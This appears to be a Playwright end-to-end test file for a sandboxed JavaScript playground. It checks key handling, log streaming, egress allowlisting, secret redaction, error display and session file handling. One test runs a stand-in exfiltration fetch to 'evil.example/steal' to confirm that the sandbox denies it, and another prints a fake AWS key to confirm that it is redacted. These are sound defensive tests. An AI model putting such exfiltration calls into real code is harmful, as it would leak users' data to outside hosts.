// The playground in a real browser (Debian's Chromium) against a real `npm start` server.
import { readFile } from "node:fs/promises";
import type { Page } from "@playwright/test";
import { E2E_KEY, expect, link, test } from "./fixtures";

/** Replaces the editor's code as a user's paste would. */
async function setCode(page: Page, code: string) {
  await page.locator(".cm-content").click();
  await page.keyboard.press("ControlOrMeta+A");
  await page.keyboard.insertText(code);
}

async function run(page: Page, status: string) {
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(page.locator("#status")).toHaveAttribute("data-status", status);
}

test.describe("the playground at GET /", () => {
  test("opens npm start's link: the key is stored and gone from the address bar at once", async ({
    page,
    server,
    origins,
  }) => {
    // What `npm start` prints on a terminal (test/e2e/playground-link.test.ts).
    await page.goto(`${server.url}/#key=${encodeURIComponent(E2E_KEY)}`);
    await expect(page.locator("#key-state")).toHaveText("saved in this browser");
    expect(page.url()).toBe(`${server.url}/`);
    expect(await page.evaluate(() => localStorage.getItem("cordon.apiKey"))).toBe(E2E_KEY);
    // The page loaded nothing from anywhere but its own server.
    expect(origins).toEqual([server.url]);
  });

  test("runs the link's code, with the key already out of the address bar while it runs", async ({
    page,
    server,
  }) => {
    await page.goto(link(server, "await new Promise((r) => setTimeout(r, 1500));\n6 * 7"));
    await expect(page.locator("#status")).toHaveAttribute("data-status", "running");
    expect(page.url()).toBe(`${server.url}/`);
    await expect(page.locator("#status")).toHaveAttribute("data-status", "ok");
    await expect(page.locator("#result")).toHaveText("42");
  });

  test("streams logs as they happen, before the result", async ({ page, server }) => {
    const code = [
      'console.log("first");',
      "await new Promise((r) => setTimeout(r, 2000));",
      'console.log("second");',
      '"done"',
    ].join("\n");
    await page.goto(link(server, code));
    await expect(page.locator("#logs li")).toHaveText(["first"]);
    // The first line is on the page while the code still runs and no result has come.
    await expect(page.locator("#status")).toHaveAttribute("data-status", "running");
    await expect(page.locator("#result")).toHaveText("");
    await expect(page.locator("#status")).toHaveAttribute("data-status", "ok");
    await expect(page.locator("#logs li")).toHaveText(["first", "second"]);
    await expect(page.locator("#result")).toHaveText('"done"');
  });

  test("lists a denied fetch in the egress table", async ({ page, server }) => {
    const code = [
      'try { await fetch("https://evil.example/steal?x=1") } catch (err) { console.log(err.name) }',
      '"after"',
    ].join("\n");
    await page.goto(link(server, code));
    await expect(page.locator("#status")).toHaveAttribute("data-status", "ok");
    await expect(page.locator("#logs li")).toHaveText(["TypeError"]);
    const row = page.locator("#egress-table tbody tr");
    await expect(row).toHaveCount(1);
    await expect(row.locator("td")).toHaveText([
      "GET",
      "https://evil.example/steal?x=1",
      "denied",
      "no rule allows evil.example",
      "",
      "",
    ]);
  });

  test("lists an allowed fetch with its status and time, and narrows egress per run", async ({
    page,
    server,
  }) => {
    const code = `const r = await fetch("${server.upstream}/hello");\nawait r.text()`;
    await page.goto(link(server, code));
    await expect(page.locator("#status")).toHaveAttribute("data-status", "ok");
    await expect(page.locator("#result")).toHaveText('"hello from upstream"');
    const cells = page.locator("#egress-table tbody tr td");
    await expect(cells.nth(2)).toHaveText("allowed");
    await expect(cells.nth(3)).toHaveText(`allowed by rule ${server.upstream}`);
    await expect(cells.nth(4)).toHaveText("200");
    await expect(cells.nth(5)).toHaveText(/^\d+$/);
    await expect(page.locator("#usage")).toHaveText(/^wall time \d+ ms, 1 outbound request$/);

    // The run's own allowlist narrows the tenant's: another host only, so this fetch is denied.
    await page.locator("#egress").fill("api.example.com");
    await run(page, "error");
    await expect(cells.nth(2)).toHaveText("denied");
  });

  test("shows what was redacted from the output", async ({ page, server }) => {
    await page.goto(link(server, 'console.log("key:", "AKIA" + "ABCDEFGHIJKLMNOP")'));
    await expect(page.locator("#status")).toHaveAttribute("data-status", "ok");
    await expect(page.locator("#logs li")).toHaveText(["key: [REDACTED:aws-access-key-id]"]);
    await expect(page.locator("#redactions li")).toHaveText(["aws-access-key-id in logs"]);
  });

  test("highlights the line an error comes from", async ({ page, server }) => {
    await page.goto(link(server, "const a = 1;\nconst b = a + 1;\nnull.boom;\nb", "typescript"));
    await expect(page.locator("#status")).toHaveAttribute("data-status", "error");
    await expect(page.locator("#error")).toContainText("TypeError");
    await expect(page.locator("#error")).toContainText("(line 3, column");
    await expect(page.locator(".cm-error-line")).toHaveText("null.boom;");
    // Editing the code clears the stale mark.
    await page.locator(".cm-content").click();
    await page.keyboard.type(" ");
    await expect(page.locator(".cm-error-line")).toHaveCount(0);
  });

  test("Stop ends a run and the page is ready for the next", async ({ page, server }) => {
    await page.goto(
      link(server, 'console.log("waiting");\nawait new Promise((r) => setTimeout(r, 60000))'),
    );
    await expect(page.locator("#logs li")).toHaveText(["waiting"]);
    await page.getByRole("button", { name: "Stop" }).click();
    await expect(page.locator("#status")).toHaveAttribute("data-status", "stopped");
    await setCode(page, "1 + 1");
    await run(page, "ok");
    await expect(page.locator("#result")).toHaveText("2");
  });

  test("session mode: an uploaded file is read, a written one downloaded, variables kept", async ({
    page,
    server,
  }) => {
    await page.goto(link(server, "0", "javascript", false));
    await page.getByLabel("Session").check();
    await page.locator("#upload").setInputFiles({
      name: "prices.json",
      mimeType: "application/json",
      buffer: Buffer.from("[3,4,5]"),
    });
    await expect(page.locator("#session-id")).toHaveText(/^ses_/);
    await expect(page.locator("#files tbody tr td:first-child")).toHaveText(["prices.json"]);

    await setCode(
      page,
      [
        'import fs from "node:fs";',
        'const prices = JSON.parse(fs.readFileSync("/tmp/workspace/prices.json", "utf8"));',
        'fs.writeFileSync("/tmp/workspace/total.txt", String(prices.reduce((a, b) => a + b, 0)));',
        "prices.length",
      ].join("\n"),
    );
    await run(page, "ok");
    await expect(page.locator("#result")).toHaveText("3");
    await expect(page.locator("#files tbody tr td:first-child")).toHaveText([
      "prices.json",
      "total.txt",
    ]);

    await setCode(page, "prices.map((p) => p * 2)");
    await run(page, "ok");
    await expect(page.locator("#result")).toHaveText("[\n  6,\n  8,\n  10\n]");

    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("link", { name: "total.txt" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("total.txt");
    expect(await readFile(await download.path(), "utf8")).toBe("12");
  });
});
